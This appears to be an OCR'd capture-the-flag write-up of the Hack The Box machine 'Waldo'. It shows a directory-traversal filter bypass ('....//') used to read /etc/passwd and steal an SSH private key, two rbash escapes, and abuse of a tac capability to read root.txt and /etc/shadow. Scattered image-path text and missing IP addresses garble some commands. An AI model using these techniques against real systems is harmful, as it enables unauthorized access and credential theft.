Level: Mediun

Task: To find user.txt and root.txt file

Let’s start off with nmap command to find out the open ports and services.

root@kali:~/htb/waldo# nmap -sC -sV -oA nmap
Starting Nmap 7.70 ( https://nmap.org ) at 2018-12-19 15:05 CET
Nmap scan report for
Host is up (0.029s latency).
Not shown: 997 closed ports
22/tcp open ssh OpenSSH 7.5 (protocol 2.0)
| ssh-hostkey:
| 2048 c4:ff:81:aa:ac:df:66:9e:da:e1:c8:78:00:ab:32:9e (RSA)
| 256 b3:e7:54:6a:16:bd:c9:29:1f:4a:8c:cd:4c:01:24:27 (ECDSA)
|_ 256 38:64:ac:57:56:44:d5:69:de:74:a8:88:dc:a0:b4:fd (ED25519)
80/tcp open http nginx 1.12.2
|_http-server-header: nginx/1.12.2
| http-title: List Manager|_Requested resource was /list.html
|_http-trane-info: Problem with XML parsing of /evox/about
8888/tcp filtered sun-answerbook

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 26.67 seconds



The site presents as a Where’s Waldo themed List Manager:Beyond observing the awesome background (from Where’s Waldo? In Hollywood (Book 4 – Scene 3)) and the silly script that turns my mouse into a waldo head, I can create lists, add and delete items from them:


When I add a list, it is added in numerical order, and always named list[x], where x is an increasing int.

Under the Hood

If I watch what’s happening as I create and delete lists and items in a proxy (like burp, or firefox dev tools), there’s a series of POST requests to 4 php scripts:

  • dirRead.php
  • fileRead.php
  • fileWrite.php
  • fileDelete.php

Here’s an example selection of requests from burp generated by interacting with the site:If I pull up one of the POSTs to dirRead.php, I’ll see a request which includes a path:

Site Source

I can pipe the curl output into jq with the -r flag to print the string as raw, and select the fileobject (if you don’t know jq, you should check it out – it comes in handy in so many situations with json data.

So this command will grab dirRead.php:

root@kali:~/htb/waldo# curl -s -X POST -d "file=dirRead.php" | jq -r .file

header('Content-type:application/json');
$_POST['path'] = str_replace( array("../", "..\""), "", $_POST['path']);
echo json_encode(scandir("/var/www/html/" . $_POST['path']));
header('Content-type: application/json');
echo '[false]';


root@kali:~/htb/waldo# curl -s -X POST -d "file=fileRead.php" | jq -r .file

$fileContent['file'] = false;
header('Content-Type: application/json');
header('Content-Type: application/json');
$_POST['file'] = str_replace( array("../", "..\""), "", $_POST['file']);
if(strpos($_POST['file'], "user.txt") === false){
$file = fopen("/var/www/html/" . $_POST['file'], "r");
$fileContent['file'] = fread($file,filesize($_POST['file']));
echo json_encode($fileContent);


root@kali:~/htb/waldo# curl -s -X POST -d "file=fileWrite.php" | jq -r .fileheader('Content-Type: application/json');
$condition['result'] = false;
$myFile = "/var/www/html/.list/list" . $_POST['listnum'];
$handle = fopen($myFile, 'w');
$data = $_POST['data'];
fwrite($handle, $data);
$condition['result'] = true;
echo json_encode($condition);


root@kali:~/htb/waldo# curl -s -X POST -d "file=fileDelete.php" | jq -r .file

header('Content-Type: application/json');
$myFile = "/var/www/html/.list/list" . $_POST['listnum'];
header('Content-Type: application/json');
echo '[true]';
header('Content-Type: application/json');
echo '[false]';
header('Content-Type: application/json');
echo '[false]';Bypassing Filters

I can see in both dirRead and fileRead the user input is filtered to remove directory traversal attacks. There’s a third filter there in fileRead that prevents me from reading user.txt:

file filter
dirRead $_POST['path'] = str_replace( array("../", "..\""), "", $_POST['path']);
fileRead $_POST['file'] = str_replace( array("../", "..\""), "", $_POST['file']);
fileRead strpos($_POST['file'], "user.txt") === false

Fortunately for me, that style filter can be bypassed by including a string that, after the str_replace, will result inwhat I want. str_replace is not recursive. It only makes one pass over the string. So, str_replace( array("../", "..\""), "", "....//") == "../".

To test, I’ll get a directory listing of / and grab /etc/passwd:

root@kali:~/htb/waldo# curl -s -X POST -d "path=....//....//....//" | jq -rc

root@kali:~/htb/waldo# curl -s -X POST -d "file=....//....//....//etc/passwd" | jq -r .file

Intersting Files

In enumerating the box with dir list and file read, I’ll find a few interesting things.

Right away we see .dockerenv in the root. Looking around further, the box is sparse, so I am likely in a container.

There’s also a .ssh folder, which contains a file named .monitor, which is a private ssh key. I’ll save it with this command

  • root@kali:~/htb/waldo# curl -s -X POST -d "file=....//....//....//home/nobody/.ssh/.monitor" | jq -r .file > id_waldo_nobody
    root@kali:~/htb/waldo# cat id_waldo_nobody
    -----END RSA PRIVATE KEY-----

SSH Access as nobody

Now with an ssh key, I can get a shell on Waldo as nobody:

root@kali:~# ssh -i id_rsa_waldo_nobody nobody@
Welcome to Alpine!

The Alpine Wiki contains a large amount of how-to guides and general
information about administrating Alpine systems.
See <http://wiki.alpinelinux.org>.
waldo:~$ id
uid=65534(nobody) gid=65534(nobody) groups=65534(nobody)

This gives me access to user.txt:

waldo:~$ wc -c user.txt
33 user.txt
waldo:~$ cat user.txt

Privesc / Pivot: nobody -> monitor


The next step involves noticing a bunch of things that are acting weird and some experimentation (or, if you’re on free, noticing in the process list that someone else has already sshed into localhost as monitor).

  • The private key I found was named .monitor. I used it with nobody, but it didn’t have that name in it.
  • monitor isn’t a user on this host.
  • ssh on this box is configured to listen on 8888. When I tried to talk to 8888 from the attacker box, it hangs (remember the filtered return from theoriginal nmap). But here’s the interesting parts from the ssh config:
    monitor@waldo:/$ grep -e "Port " -e AllowUser  /etc/ssh/sshd_config
    #Port 22
    AllowUsers monitor
  • I still see the host listening on 22 and 8888:
    waldo:~$ netstat -pant
    netstat: can't scan /proc - are you root?
    Active Internet connections (servers and established)
    Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name
    tcp        0      0    *               LISTEN      -
    tcp        0      0    *               LISTEN      -
    tcp        0      0  *               LISTEN      -
    tcp        0      0*               LISTEN      -tcp        0      0            TIME_WAIT   -
    tcp        0      0       ESTABLISHED -
    tcp        0      0          TIME_WAIT   -
    tcp        0      0 :::80                   :::*                    LISTEN      -
    tcp        0      0 :::22                   :::*                    LISTEN      -
    tcp        0      0 :::8888                 :::*                    LISTEN      -

My theory at this point is that I’m in a container, and that the host is forwarding post 22 from the outside to port 8888 on the container. But the host is also still listening on port 22 for itself.

Restricted Shell

If I try sshing as monitor to localhost, I get a new shell, and a new host! (And a hugeascii art banner!):

waldo:~$  ssh -i /home/nobody/.ssh/.monitor monitor@localhost
Linux waldo 4.9.0-6-amd64 #1 SMP Debian 4.9.88-1 (2018-04-29) x86_64
                      @@@,@@/ %
              (@################%@@@@@.     /**
 `           @@@@&#############%@@@%((/
            .@@&##@@,,/@@@@&(.  .&@@@&,,,.&@@/         #@@%@@@@@&@@@/
           *@@@@@&@@.*@@@          %@@@*,&@@            *@@@@@&.#/,@/
          *@@&*#@@@@@@@&     #@(    .@@@@@@&    ,@@@,    @@@@@(,@/@@
          *@@/@#.#@@@@@/    %@@@,   .@@&%@@@     &@&     @@*@@*(@@#
           (@@/@,,@@&@@@            &@@,,(@@&          .@@%/@@,@@
             /@@@*,@@,@@@*         @@@,,,,,@@@@.     *@@@%,@@**@#%@@.%@&,(@@@@,  /&@@@@,,,,,,,%@@@@@@@@@@%,,*@@,#@,
                            Here's Waldo, where's root?
Last login: Wed Dec 19 08:19:51 2018 from
-rbash: alias: command not found

And it’s a quite restricted shell:

monitor@waldo:~$ cd /
-rbash: cd: restricted

monitor@waldo:~$ echo $PATH

I can’t change directory. There’s a bin dir with ls and 3 text editors, which is basically the only commands I can run.

monitor@waldo:~$ ls bin/
ls  most  red  rnano

There’s also this app-dev directory (more on that later).I found 2 ways to escape from the restricted shell.

What Sets the Shell

The rbash environment I’m given is set in two places. First, if i look in /etc/passwdfor the monitor user, I’ll see its shell is set to rbash:

monitor@waldo:~$ grep monitor /etc/passwd
monitor:x:1001:1001:User for editing source and monitoring logs,,,:/home/monitor:/bin/rbash

rbash will restrict my use of cd, changing the path, and calling programs outside my given path. Then, the path is set on the last line of the .bashrc file, which is sourced at shell creation time:

monitor@waldo:~$ tail -1 .bashrc

In both escapes that follow, once I’m able to get a different shell, I’m able to change the path, and I’ve completely escaped.

Intended Route: redIn the bin dir, I’ll find a few editors:

monitor@waldo:~$ ls -l bin
total 0
lrwxrwxrwx 1 root root  7 May  3  2018 ls -> /bin/ls
lrwxrwxrwx 1 root root 13 May  3  2018 most -> /usr/bin/most
lrwxrwxrwx 1 root root  7 May  3  2018 red -> /bin/ed
lrwxrwxrwx 1 root root  9 May  3  2018 rnano -> /bin/nano

For each editor, they link back to the normal versions. Sometimes there’s an r in front of the name (to imply restricted). Neither nano nor most have any ability to run shell commands.

red is the name for the restricted version of ed, that doesn’t allow you to call system commands from inside it, for example. But this red just links back to unrestricted ed, not to an instance of red.

To escape rbash via ed, I’ll take advantage of ed’s ability to run shell commands. From the edman page:


Executes command via sh(1). If the first character of command is ‘!’, then it is replaced by text of the previous ‘!command’ed does not process command for backslash () escapes. However, an unescaped ’%’ is replaced by the default filename. When the shell returns from execution, a ‘!’ is printed to the standard output. The current line is unchanged.

So, I can just open ed, type !/bin/sh, and have a full shell:

monitor@waldo:~$ red
$ pwd
$ cd /
$ ls
bin  boot  dev  etc  home  initrd.img  initrd.img.oldlib  lib64  lost+found  media  mnt  opt  proc  root  run  sbin  srv  sys  tmp  usr  var  vmlinuz  vmlinuz.old

I’ll need to set the path to something more reasonable, but that’s easy enough outside of rbash:

monitor@waldo:/$ export PATH=/root/local/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin

Unintended Route: ssh -t

The PATH is missing several entries and it is not possible to specify absolute paths. As the gnu.org article below on “The Restricted Shell” states, it is not possible to set the PATH variable in rbash.
Fortunately, the SSH “-t” switch allows a tty to be forced for the login, which will bypass rbash.
After exiting the current restricted shell, the command below is executed.

waldo:~$ ssh -i /home/nobody/.ssh/.monitor monitor@localhost -t bash
monitor@waldo:~$ cd /
monitor@waldo:/$ id
bash: id: command not found
monitor@waldo:/$ export PATH=/root/local/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
monitor@waldo:/$ id
uid=1001(monitor) gid=1001(monitor) groups=1001(monitor)

On the free servers, which had a lot of users going at once, this way was often given away because it shows up in the process list of the container, so once someone figured it out, it was obviously there for others to grab and use.

Privesc: Full Disk Read as root

Enumeration of the home directory reveals various binaries and “logMonitor-0.1” seems interesting as it might have been conferred privileges in order to read log files. However, the SETUID bit has not been set.
A less well-known technique of allowing binaries to run with elevated privileges are Linux Capabilities. The Post “Linux Capabilities – A friend and foe” by m0noc provides a good overview of this subject.
A check for assigned capabilities can be performed with the getcap utility


Linux has a concept of capabilities, which allow you to assign a program rights to do certain things typically reserved for root. So, for example,the CAP_NET_BIND_SERVICE capability allows a program not running as root to bind to a port under 1024.

If I look at this program, using getcap, I’ll see it has a capability assigned:

monitor@waldo:/$ getcap -r * 2>/dev/null
home/monitor/app-dev/v0.1/logMonitor-0.1 = cap_dac_read_search+ei
usr/bin/tac = cap_dac_read_search+ei

CAP_DAC_READ_SEARCH allows the program to bypass file and directory read permission checks. Neat.

the +ei means that the capability is:

  • (e)ffective – used by the kernel to perform permission checks
  • (i) inheritable – preserved across execve or fork callstac is just reverse cat, as it in prints contents of files to stdout, but last line first.

With tac, Ican get the root flag:

monitor@waldo:~/app-dev$ tac /root/root.txt

If I wanted to read other files with more than one line, just tac twice:

monitor@waldo:/$ tac /etc/shadow | tac

No root Shell, below ssh-tunnelexplained

root@kali:~/htb/waldo# ssh -L8023: -i priv nobody@
Welcome to Alpine!

The Alpine Wiki contains a large amount of how-to guides and general
information about administrating Alpine systems.
See <http://wiki.alpinelinux.org>.
root@kali:~# netstat -alnp | grep 8023
